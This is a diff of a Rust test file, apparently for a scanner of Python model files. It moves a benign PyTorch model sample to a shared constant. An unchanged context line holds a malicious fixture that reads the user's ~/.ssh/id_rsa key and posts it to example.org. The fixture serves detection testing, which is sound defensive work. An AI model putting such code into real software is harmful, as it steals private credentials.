@@ -87,9 +87,6 @@ crate::samples! {
         "keys are sent away" => [("modeling_x.py", b"import requests, os\ndef f():\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.post('https://example.org', data=key)\n".to_vec())],
     },
     ok: {
-        "an ordinary model" => [("modeling_x.py", ORDINARY.as_bytes().to_vec())],
+        "an ordinary model" => [("modeling_x.py", super::super::acts::ORDINARY.as_bytes().to_vec())],
     },
 }
-
-#[cfg(test)]
-const ORDINARY: &str = "import math\nimport os\nfrom typing import Optional\n\nimport torch\nfrom torch import nn\nfrom transformers import PreTrainedModel\nfrom .configuration_x import XConfig\n\nclass XModel(PreTrainedModel):\n    config_class = XConfig\n\n    def __init__(self, config):\n        super().__init__(config)\n        self.layers = nn.ModuleList([nn.Linear(config.hidden_size, config.hidden_size) for _ in range(config.num_layers)])\n        self.act = getattr(nn, 'GELU')()\n\n    def forward(self, x, mask: Optional[torch.Tensor] = None):\n        for layer in self.layers:\n            x = self.act(layer(x)) / math.sqrt(x.shape[-1])\n        return x\n";
